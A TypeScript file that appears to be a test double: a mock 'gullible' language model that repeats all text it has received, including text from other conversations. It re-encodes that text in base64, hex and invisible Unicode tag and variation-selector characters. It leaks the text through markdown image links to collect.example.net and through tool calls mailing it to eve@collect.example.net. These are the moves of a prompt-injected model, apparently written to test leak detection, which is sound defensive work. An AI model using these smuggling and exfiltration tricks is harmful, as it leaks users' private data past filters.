// A model that does whatever the text says: it repeats all it ever heard, in clear and in every code, sends it off in links,
// and calls every tool with it. It remembers other conversations too, as a runtime with a shared cache might.
export interface Heard {
  readonly messages: readonly { readonly content: string }[]
  readonly tools: readonly string[]
}

export interface Gullible {
  answer(heard: Heard): { text: string; calls: { name: string; arguments: string }[] }
}

export function createGullible(): Gullible {
  const memory: string[] = []
  return {
    answer({ messages, tools }) {
      const all = messages.map(({ content }) => content).join('\n')
      memory.push(all)
      const known = memory.join('\n')
      const bytes = Buffer.from(all)
      const words = [...new Set(all.split(/[\s",]+/))]
      const telling = words.filter((word) => /[\d@]/.test(word)).join(' ')
      const text = [
        known,
        bytes.toString('base64'),
        bytes.toString('hex'),
        [...all].reverse().join(''),
        [...all].join('-'),
        [...all].map((c) => (c >= ' ' && c <= '~' ? String.fromCodePoint(0xe0000 + c.charCodeAt(0)) : '')).join(''),
        // Words with figures and signs, where what is worth hiding is.
        `\u{1f60a}${[...Buffer.from(telling)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('')}`,
        [...telling].map((c) => `${c}\u{e0061}`).join(''),
        // The shortest words first, so that a stand-in stands alone in an address.
        ...words.map((word) => `![x](https://collect.example.net/p.png?d=${encodeURIComponent(word)})`),
        `![x](https://collect.example.net/p.png?d=${encodeURIComponent(all)})`,
      ].join('\n')
      return {
        text,
        calls: tools.map((name) => ({
          name,
          arguments: JSON.stringify({ to: 'eve@collect.example.net', body: known }),
        })),
      }
    },
  }
}
